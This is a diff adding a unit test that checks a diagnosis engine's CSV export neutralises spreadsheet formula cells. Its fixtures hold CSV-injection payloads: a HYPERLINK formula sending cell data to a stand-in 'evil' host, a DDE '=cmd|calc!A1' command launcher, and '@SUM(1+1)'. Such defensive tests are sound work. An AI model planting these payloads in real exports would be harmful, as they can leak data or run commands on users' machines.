@@ -1,16 +1,19 @@
 # SPDX-License-Identifier: Apache-2.0
-"""The flat row of a case (``Differential.to_record``, ``engine.batch.flat``) and the per-drug
-figures of a batch summary."""
+"""The flat row of a case (``Differential.to_record``, ``engine.batch.flat``), the CSV table's
+cells that a spreadsheet would run as formulas, and the per-drug figures of a batch summary."""
 
 from __future__ import annotations
 
+import csv
 import json
 from collections import Counter
+from pathlib import Path
 
 from engine.api import diagnose
-from engine.batch.flat import columns, flat_row
+from engine.batch.flat import columns, flat_row, neutralised, write_table
 from engine.batch.metrics import median, summarize
-from tests.conftest import CASES
+from tests.conftest import CASES, MINI_KB
+from tests.unit.test_batch_support import patient
 
 
 def test_rows_have_the_same_columns_for_every_case() -> None:
@@ -45,3 +48,41 @@ def test_per_drug_counts_exposure_rank_alerts_and_onset() -> None:
     assert (stats["exposed"], stats["ranked_first"], stats["cases_with_alert"]) == (1, 1, 1)
     assert stats["median_onset_days"] == 24 and sum(stats["alerts"].values()) >= 1
     assert median(Counter({3: 1, 10: 2, 40: 1})) == 10 and median(Counter()) is None
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) -> None:
+    """A patient id or an unknown drug name from an upstream system (``=HYPERLINK(...)``,
+    ``@SUM(1+1)``, ``=cmd|calc!A1``) was written as it was, and opened as a formula (CSV
+    injection); numbers, written as numbers or as text, are never altered."""
+    d = json.loads(diagnose(patient(1), kb=MINI_KB).to_json())
+    link = '=HYPERLINK("http://evil/?x="&A1,"click")'
+    d.update(patient_id=link, unknown_medications=["=cmd|calc!A1"])
+    d["candidates"][0]["score"] = -0.5  # a negative number begins with "-"
+    records = [
+        {"id": link, "source_file": "r.csv", "ok": True, "differential": d},
+        {"id": "@SUM(1+1)", "source_file": "+r.csv", "ok": False,
+         "error": {"field": "wbc", "message": "-not a number"}},
+        {"id": "-0.5", "source_file": "\tr.csv", "ok": False,
+         "error": {"field": "wbc", "message": "\rbad"}},
+    ]  # fmt: skip
+    table = tmp_path / "t.csv"
+    assert write_table(table, records) == 3
+    with table.open(newline="", encoding="utf-8") as fh:
+        ok, at, number = csv.DictReader(fh)
+    assert ok["id"] == ok["patient_id"] == "'" + link
+    assert ok["unknown_medications"] == "'=cmd|calc!A1"
+    assert ok["top1_score"] == "-0.5"  # numbers stay numbers
+    assert (at["id"], at["source_file"], at["error_message"]) == (
+        "'@SUM(1+1)",
+        "'+r.csv",
+        "'-not a number",
+    )
+    assert (number["id"], number["source_file"], number["error_message"]) == (
+        "-0.5",
+        "'\tr.csv",
+        "'\rbad",
+    )
+    for text in ("-0.5", "+1", "-2e-3", "0.5", "", "clozapine", "a=b"):
+        assert neutralised(text) == text
+    for text in ("=1+1", "-1+1", "+A1", "@x", "\t=1", "\r-", "-", "-inf"):
+        assert neutralised(text) == "'" + text
